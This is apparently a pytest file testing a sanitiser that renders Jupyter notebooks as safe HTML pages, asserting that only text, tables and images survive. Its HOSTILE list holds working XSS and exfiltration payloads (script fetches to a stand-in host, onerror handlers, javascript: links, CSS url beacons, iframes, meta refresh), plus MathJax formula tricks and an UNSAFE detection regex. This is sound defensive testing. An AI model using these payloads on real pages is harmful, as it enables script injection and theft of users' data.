"""A notebook as one page: of a hostile one only text, tables and pictures are left."""

import json
import re
from functools import cache
from typing import Any

import pytest

from tests.corpus import Case, notebooks, ordinary_files
from tre.airlock.notebook_page import notebook_page
from tre.core.errors import BadInput

pytestmark = pytest.mark.slow

SECRET = "Zq7Planted9"
NAMES = "plotly metadata traceback attachment widgets parameters comment program small picture source"
PLANTED = [f"{name}.ipynb" for name in NAMES.split()]
ORDINARY = ["clean.ipynb", "analysis.ipynb"]
HOSTILE = [
    f"<script>fetch('https://a.example/{SECRET}')</script>",
    f"<SCRIPT SRC=//a.example/{SECRET}></SCRIPT>",
    f"[click](javascript:alert('{SECRET}'))",
    f"[click](data:text/html;base64,{SECRET})",
    f"<a href='java&#115;cript:{SECRET}'>click</a>",
    f"![picture](https://a.example/{SECRET}.png)",
    f"<img src='https://a.example/{SECRET}' onerror='alert(1)'>",
    f"<img src=x onerror=alert('{SECRET}')>",
    f"<svg onload=alert('{SECRET}')><script>{SECRET}</script></svg>",
    f"<svg><foreignObject><iframe src='javascript:{SECRET}'></iframe></foreignObject></svg>",
    f"<math><mtext><style><img src=x onerror='{SECRET}'></style></mtext></math>",
    f"<p style=\"background:url('https://a.example/{SECRET}')\">seen</p>",
    f"<style>@import url(https://a.example/{SECRET});</style>",
    f"<link rel=stylesheet href=https://a.example/{SECRET}>",
    f"<iframe src='https://a.example/{SECRET}'></iframe>",
    f"<iframe srcdoc='<script>{SECRET}</script>'></iframe>",
    f"<form action='https://a.example/{SECRET}'><input name=a value='{SECRET}'></form>",
    f"<object data='https://a.example/{SECRET}'></object><embed src='//a.example/{SECRET}'>",
    f"<meta http-equiv=refresh content='0;url=https://a.example/{SECRET}'>",
    f"<base href='https://a.example/{SECRET}/'>",
    f"<p style='display:none'>{SECRET}</p>",
    f"<p style='color:#fff'>{SECRET}</p>",
    f"<p hidden>{SECRET}</p><template>{SECRET}</template><noscript>{SECRET}</noscript>",
    f"<!-- {SECRET} -->",
    f"<noscript><p title='</noscript><img src=x onerror=alert(\"{SECRET}\")>'></noscript>",
    f"<div data-row='{SECRET}' class='{SECRET}' id='{SECRET}'>seen</div>",
    f"<video src='//a.example/{SECRET}' autoplay></video><audio src='//a.example/{SECRET}'></audio>",
]
# Tricks of MathJax: where a formula is drawn, addresses and styles in it work; where it is not, they are words alone.
FORMULAS = [r"$\href{javascript:alert(1)}{x}$", r"$$\style{background:url(//a.example)}{x}$$", r"$\require{html}$"]
UNSAFE = re.compile(
    r"<(script|style|link|iframe|object|embed|form|input|base|svg|math|video|audio|a)\b|<meta http-equiv"
    r"|<[^>]*\s(on\w+|style|href|class|id|srcset|action)\s*=|<[^>]*\ssrc=\"(?!data:image/(png|jpeg);base64,)",
    re.IGNORECASE,
)


def book(*cells: dict[str, Any]) -> bytes:
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 4}).encode()


def markdown(source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def output(**data: str) -> dict[str, Any]:
    shown = {"output_type": "display_data", "metadata": {}, "data": {k.replace("_", "/"): v for k, v in data.items()}}
    return {"cell_type": "code", "metadata": {}, "execution_count": None, "source": "show()", "outputs": [shown]}


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("place", ["markdown", "html", "markdown output", "mixed"])
def test_nothing_of_a_hostile_notebook_runs_loads_or_hides(hostile: str, place: str) -> None:
    cell = {
        "markdown": markdown(f"# Fine\n\n{hostile}\n\nMore."),
        "html": output(text_html=f"<p>Fine</p>{hostile}<p>More.</p>"),
        "markdown output": output(text_markdown=f"Fine\n\n{hostile}\n\nMore."),
        "mixed": markdown(f"> Fine\n> - {hostile}\n\n| Fine | b |\n|---|---|\n| {hostile.replace('|', '')} | More. |"),
    }[place]
    page = notebook_page(book(cell)).decode()
    assert not UNSAFE.search(page), UNSAFE.search(page)
    assert "Fine" in page
    if place == "html" and hostile.startswith("<"):  # what is Markdown is words there
        assert SECRET not in page


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_stays_words(formula: str) -> None:
    page = notebook_page(book(markdown(f"Fine {formula}"))).decode()
    assert not UNSAFE.search(page)
    assert "MathJax" not in page


@cache
def planted() -> dict[str, Case]:
    """The notebooks of the corpus with something planted, made when a test first asks: their libraries are slow."""
    return {case.name: case for case in notebooks.leaks()}


@cache
def ordinary() -> dict[str, Case]:
    """The notebooks of the corpus with nothing planted."""
    cases = (*notebooks.twins(), *ordinary_files.reports())
    return {case.name: case for case in cases if case.name.endswith("ipynb")}


def test_every_notebook_of_the_corpus_is_named_here() -> None:
    assert list(planted()) == PLANTED
    assert list(ordinary()) == ORDINARY


@pytest.mark.parametrize("name", PLANTED)
def test_the_page_of_a_planted_notebook_holds_nothing_that_the_rebuilt_one_leaves_out(name: str) -> None:
    case = planted()[name]
    page = notebook_page(case.content)
    assert not UNSAFE.search(page.decode())
    assert not case.hidden or SECRET.encode() not in page


@pytest.mark.parametrize("name", ORDINARY)
def test_the_page_of_an_ordinary_notebook_shows_its_text_and_tables(name: str) -> None:
    case = ordinary()[name]
    page = notebook_page(case.content).decode()
    assert not UNSAFE.search(page)
    for cell in json.loads(case.content)["cells"]:
        first = "".join(cell["source"]).strip("# ").split("\n")[0][:12].split("(")[0]
        assert first in page.replace("&#39;", "'")


def test_tables_and_pictures_are_kept() -> None:
    page = notebook_page(ordinary()["clean.ipynb"].content).decode()
    assert "<table>" in page
    assert '<img src="data:image/png;base64,' in page


def test_what_is_no_notebook_has_no_page() -> None:
    for content in (b"", b"[]", b"{}", notebooks.written()[:-5], b"\xff"):
        with pytest.raises(BadInput):
            notebook_page(content)
